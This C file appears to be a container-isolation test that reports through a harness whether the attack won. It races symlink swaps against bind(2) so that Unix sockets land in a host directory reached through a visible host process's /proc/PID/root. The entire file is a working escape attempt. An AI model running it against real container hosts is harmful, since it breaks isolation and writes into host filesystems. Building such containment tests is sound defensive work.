// bind(2) makes a socket's file by a path. One link of the path turns between a directory of the payload's and a directory
// of the host behind /proc/PID/root of a process of the host that is in sight (--pid=host): a socket must not appear there.
#include "attack.h"
#include <dirent.h>
#include <pthread.h>
#include <sys/socket.h>
#include <sys/un.h>

static char target[PATH_MAX];

static void *turns(void *unused) {
    for (;;) {
        unlink("/tmp/hb/turn.new");
        if (symlink("/tmp/hb/own", "/tmp/hb/turn.new") == 0)
            rename("/tmp/hb/turn.new", "/tmp/hb/turn");
        unlink("/tmp/hb/turn.new");
        if (symlink(target, "/tmp/hb/turn.new") == 0)
            rename("/tmp/hb/turn.new", "/tmp/hb/turn");
    }
    return unused;
}

static int make(const char *path) {
    struct sockaddr_un un = {.sun_family = AF_UNIX}, back = {0};
    socklen_t size = sizeof back;
    snprintf(un.sun_path, sizeof un.sun_path, "%s", path);
    int s = socket(AF_UNIX, SOCK_STREAM, 0), r = bind(s, (struct sockaddr *)&un, sizeof un);
    // What the kernel tells of the socket is the text that the program gave.
    if (r == 0 &&
        (getsockname(s, (struct sockaddr *)&back, &size) < 0 || strcmp(un.sun_path, back.sun_path) != 0))
        attack_won("the name of a socket is %s instead of %s", back.sun_path, un.sun_path);
    close(s);
    return r;
}

// Finds a process of the host, and tries its directory without a race. Whether there is one.
static int bystander(void) {
    DIR *dir = opendir("/proc");
    for (struct dirent *e; dir && (e = readdir(dir));) {
        char path[64], name[16] = "";
        int pid = atoi(e->d_name);
        snprintf(path, sizeof path, "/proc/%d/comm", pid);
        int fd = pid > 0 ? open(path, O_RDONLY) : -1;
        if (fd >= 0 && read(fd, name, sizeof name - 1) > 0 && strncmp(name, "sleep", 5) == 0)
            snprintf(target, sizeof target, "/proc/%d/root%.200s", pid, attack_canary("drop"));
        close(fd);
    }
    if (dir)
        closedir(dir);
    return target[0] != 0;
}

int main(void) {
    pthread_t thread;
    char path[64];
    while (!bystander() && !attack_over())
        usleep(10000);
    if (!target[0])
        attack_broken("no process of the host is in sight");
    mkdir("/tmp/hb", 0700);
    mkdir("/tmp/hb/own", 0700);
    if (symlink(target, "/tmp/hb/link") < 0)
        attack_broken("a link");
    if (make("/tmp/hb/link/plain") == 0)
        attack_won("bind(2) has made a socket in a directory of the host");
    if (make("/tmp/hb/own/plain") < 0)
        attack_broken("a socket of one's own");
    pthread_create(&thread, NULL, turns, NULL);
    long made = 0;
    for (long i = 0; !attack_over(); i++) {
        snprintf(path, sizeof path, "/tmp/hb/turn/%ld", i % 1000);
        made += make(path) == 0;
        snprintf(path, sizeof path, "/tmp/hb/own/%ld", i % 1000);
        unlink(path);
    }
    if (!made)
        attack_broken("no bind has worked");
    attack_lost();
}
